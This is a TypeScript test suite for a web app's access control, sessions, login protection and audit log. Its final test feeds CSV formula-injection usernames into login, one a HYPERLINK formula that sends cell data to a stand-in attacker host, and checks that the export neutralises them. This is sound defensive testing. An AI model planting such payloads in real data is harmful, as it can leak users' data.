import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { ACCESS } from '../../server/routes/access.ts';
import { ROLE_RANK, type Role } from '../../server/services/users.ts';
import { startTestServer, TEST_PASSWORD, type Client, type TestServer } from './server-harness.ts';

let s: TestServer;
const clients: Record<string, Client> = {};
beforeAll(async () => {
  s = await startTestServer('base', { LOGIN_MAX_FAILURES: '3' });
  for (const role of [null, 'viewer', 'analyst', 'admin'] as const) clients[String(role)] = await s.client(role);
});
afterAll(async () => s?.close());

/** A concrete request for each route of the table; writes are sent with harmless (invalid or
 *  unknown-target) input so an allowed call changes nothing. */
function sample(key: string): { path: string; init: RequestInit } {
  const [method, route] = key.split(' ') as [string, string];
  const path = `/api${route}`
    .replace(':id', '999999')
    .replace(':username', 'nobody-here')
    .replace(':file', route.startsWith('/briefings') ? 'BU17000107.html' : 'areas.csv');
  const body = method === 'GET' ? undefined : route === '/auth/login' ? JSON.stringify({ username: 'nobody-here', password: 'x' }) : '{"unexpected":true}';
  return { path, init: { method, body, headers: { 'content-type': route.startsWith('/imports/') ? 'text/csv' : 'application/json' } } };
}

describe('every route × every role', () => {
  for (const [key, rule] of Object.entries(ACCESS)) {
    if (key === 'POST /auth/logout') continue; // ends the session: tested on its own below
    for (const role of [null, 'viewer', 'analyst', 'admin'] as (Role | null)[]) {
      const allowed = rule === 'public' || (role !== null && ROLE_RANK[role] >= ROLE_RANK[rule]);
      it(`${key} as ${role ?? 'anonymous'} → ${allowed ? 'allowed' : role ? '403' : '401'}`, async () => {
        const { path, init } = sample(key);
        const res = await clients[String(role)]!.get(path, init);
        const body = await res.json().catch(() => null);
        // Allowed: whatever the handler answers (often a 4xx for the harmless input), but never the
        // access check's own refusal.
        if (allowed) expect(String(body?.error), `${res.status} ${JSON.stringify(body)}`).not.toMatch(/login required|needs the \w+ role|CSRF/);
        else {
          expect(res.status).toBe(role ? 403 : 401);
          expect(body.error).toMatch(role ? /needs the \w+ role/ : /login required/);
        }
      });
    }
  }
});

describe('sessions', () => {
  it('rejects a state-changing request without the CSRF token', async () => {
    const admin = await s.client('admin');
    const { 'x-csrf-token': _, ...cookieOnly } = admin.headers;
    const direct = await fetch(`${s.url}/api/users/nobody-here/disable`, { method: 'POST', headers: cookieOnly });
    expect(direct.status).toBe(403);
    expect((await direct.json()).error).toMatch(/CSRF/);
    const wrong = await fetch(`${s.url}/api/users/nobody-here/disable`, { method: 'POST', headers: { ...cookieOnly, 'x-csrf-token': 'forged' } });
    expect(wrong.status).toBe(403);
    const right = await admin.get('/api/users/nobody-here/disable', { method: 'POST' });
    expect(right.status).toBe(404); // with the token: allowed, and the user does not exist
  });

  it('expires idle sessions and honours the absolute lifetime', async () => {
    const viewer = await s.client('viewer');
    expect((await viewer.get('/api/meta')).status).toBe(200);
    await s.db.query(`UPDATE sessions SET last_seen_at = now() - interval '31 minutes' WHERE user_id = (SELECT id FROM users WHERE username = 'test-viewer')`);
    expect((await viewer.get('/api/meta')).status).toBe(401);
    const again = await s.client('viewer');
    await s.db.query(`UPDATE sessions SET expires_at = now() - interval '1 second' WHERE user_id = (SELECT id FROM users WHERE username = 'test-viewer')`);
    expect((await again.get('/api/meta')).status).toBe(401);
  });

  it('writes a session\'s last use at most once a minute', async () => {
    const viewer = await s.client('viewer');
    const token = viewer.headers.cookie!.split('=')[1]!;
    const lastSeen = async () => (await s.db.query<{ age: number }>(
      `SELECT extract(epoch FROM now() - last_seen_at)::float AS age FROM sessions WHERE token_hash = encode(sha256(convert_to($1, 'UTF8')), 'hex')`, [token]))[0]!.age;
    await s.db.query(`UPDATE sessions SET last_seen_at = now() - interval '30 seconds' WHERE token_hash = encode(sha256(convert_to($1, 'UTF8')), 'hex')`, [token]);
    expect((await viewer.get('/api/meta')).status).toBe(200);
    expect(await lastSeen()).toBeGreaterThan(25); // used 30 s ago: not written again
    await s.db.query(`UPDATE sessions SET last_seen_at = now() - interval '90 seconds' WHERE token_hash = encode(sha256(convert_to($1, 'UTF8')), 'hex')`, [token]);
    expect((await viewer.get('/api/meta')).status).toBe(200);
    expect(await lastSeen()).toBeLessThan(10); // a minute or more: touched, the idle window moves on
  });

  it('logs out', async () => {
    const analyst = await s.client('analyst');
    const out = await analyst.get('/api/auth/logout', { method: 'POST' });
    expect(out.status).toBe(200);
    expect(out.headers.get('set-cookie')).toMatch(/sk_session=;/);
    expect((await analyst.get('/api/meta')).status).toBe(401);
    expect((await analyst.json('/api/auth/me')).user).toBeNull();
  });

  it('sets an HttpOnly SameSite=Strict cookie', async () => {
    const res = await fetch(`${s.url}/api/auth/login`, { method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify({ username: 'test-viewer', password: TEST_PASSWORD }) });
    expect(res.status).toBe(200);
    const cookie = res.headers.get('set-cookie')!;
    expect(cookie).toMatch(/HttpOnly/);
    expect(cookie).toMatch(/SameSite=Strict/);
  });
});

describe('login protection', () => {
  it('gives the same answer for unknown users and wrong passwords', async () => {
    const unknown = await fetch(`${s.url}/api/auth/login`, { method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify({ username: 'ghost', password: 'whatever-it-is' }) });
    const wrong = await fetch(`${s.url}/api/auth/login`, { method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify({ username: 'test-admin', password: 'whatever-it-is' }) });
    expect(unknown.status).toBe(401);
    expect(await unknown.json()).toEqual(await wrong.json());
  });

  it('rate-limits login attempts per address', async () => {
    const limited = await startTestServer('base', { LOGIN_RATE_PER_IP: '3' });
    try {
      const statuses: number[] = [];
      for (let i = 0; i < 5; i++) {
        statuses.push((await fetch(`${limited.url}/api/auth/login`, { method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify({ username: 'ghost', password: 'nope' }) })).status);
      }
      // The harness itself logged in once from this address.
      expect(statuses).toEqual([401, 401, 429, 429, 429]);
    } finally {
      await limited.close();
    }
  });
});

describe('audit trail', () => {
  it('records logins, failures, user changes, imports and rollbacks — and cannot be altered', async () => {
    const csv = 'external_id,received_on,category,source,lon,lat\nAU-1,2025-03-04,hennep,mma,6.6294,52.4085\n';
    const report = await s.json('/api/imports/reports?filename=audit.csv', { method: 'POST', body: csv, headers: { 'content-type': 'text/csv' } });
    await s.json(`/api/imports/${report.batchId}`, { method: 'DELETE' });
    await s.json('/api/users', { method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify({ username: 'audited', role: 'analyst', password: TEST_PASSWORD }) });
    const rows = await s.json<{ actor: string; action: string; outcome: string; target: string; details: any }[]>('/api/audit?limit=500');
    const has = (action: string, pred: (r: any) => boolean = () => true) => rows.some((r) => r.action === action && pred(r));
    expect(has('login', (r) => r.actor === 'test-admin' && r.outcome === 'ok')).toBe(true);
    expect(has('login', (r) => r.outcome === 'failed')).toBe(true);
    expect(has('import', (r) => r.actor === 'test-admin' && r.details.fileName === 'audit.csv' && r.details.inserted === 1)).toBe(true);
    expect(has('rollback', (r) => r.target === `batch ${report.batchId}`)).toBe(true);
    expect(has('user.add', (r) => r.target === 'audited' && r.details.role === 'analyst')).toBe(true);
    const text = JSON.stringify(rows);
    expect(text).not.toContain(TEST_PASSWORD);
    expect(text).not.toContain('52.4085');
    await expect(s.db.query('DELETE FROM audit_log')).rejects.toThrow(/append-only/);
    await expect(s.db.query(`UPDATE audit_log SET actor = 'x'`)).rejects.toThrow(/append-only/);
    const csvExport = await s.get('/api/audit?format=csv');
    expect(csvExport.headers.get('content-type')).toMatch(/text\/csv/);
    const bytes = new Uint8Array(await csvExport.arrayBuffer());
    expect([...bytes.slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf]); // BOM, for Excel
    expect(new TextDecoder().decode(bytes)).toMatch(/^id;at;actor/);
  });

  it('filters by calendar days in Dutch time, as the page shows the moments', async () => {
    // 23:30 UTC on 6 December is 00:30 on the 7th in Amsterdam (winter, UTC+1); 22:30 UTC on 6 July
    // is 00:30 on the 7th (summer, UTC+2). Both belong to the 7th; the minutes before them to the 6th.
    const at = ['2025-12-06T22:59:00Z', '2025-12-06T23:30:00Z', '2025-12-07T22:59:00Z', '2025-12-07T23:00:00Z', '2025-07-06T21:59:00Z', '2025-07-06T22:30:00Z'];
    for (const [k, moment] of at.entries()) await s.db.query(`INSERT INTO audit_log (at, actor, action, target) VALUES ($1, 'tz-check', 'export', $2)`, [moment, `t${k}`]);
    const targets = async (from: string, to: string) => (await s.json<{ target: string }[]>(`/api/audit?actor=tz-check&from=${from}&to=${to}`)).map((r) => r.target).sort();
    expect(await targets('2025-12-07', '2025-12-07')).toEqual(['t1', 't2']);
    expect(await targets('2025-12-06', '2025-12-06')).toEqual(['t0']);
    expect(await targets('2025-12-08', '2025-12-08')).toEqual(['t3']);
    expect(await targets('2025-07-07', '2025-07-07')).toEqual(['t5']);
    expect(await targets('2025-07-06', '2025-07-06')).toEqual(['t4']);
  });
});

describe('the route table', () => {
  it('refuses to register a route that has no access rule', async () => {
    const { Router } = await import('express');
    const { secureRouter } = await import('../../server/routes/access.ts');
    const router = secureRouter(Router());
    expect(() => router.get('/secret-new-route', (_req, res) => res.json({}))).toThrow(/has no access rule/);
    expect(() => router.get('/meta', (_req, res) => res.json({}))).not.toThrow();
  });
});

describe('audit CSV export (issue #14, 4)', () => {
  it('neutralises formulas that an unauthenticated login attempt put in the actor column', async () => {
    const evil = ['=HYPERLINK("http://evil.example/?x="&A1,"Click")', '+1+cmd', '@SUM(A1)', '-2+3'];
    for (const username of evil) {
      await fetch(`${s.url}/api/auth/login`, { method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify({ username, password: 'whatever it is' }) });
    }
    const text = await (await s.get('/api/audit?format=csv&action=login')).text();
    const cells = text.split(/\r\n/).slice(1).filter(Boolean).map((line) => line.split(';')[2]!);
    for (const username of evil) {
      // The actor cell starts with an apostrophe (in quotes where the value has quotes): never with the sign.
      const cell = cells.find((c) => c.replace(/^"/, '').replaceAll('""', '"').slice(1).startsWith(username.slice(0, 12)));
      expect(cell, `${username} in ${cells.join(' | ')}`).toBeDefined();
      expect(cell!.replace(/^"/, '').startsWith("'"), cell).toBe(true);
    }
    for (const line of text.split(/\r\n/)) for (const c of line.split(';')) expect(c.replace(/^"/, '')).not.toMatch(/^[=+\-@\t\r]/);
  });
});
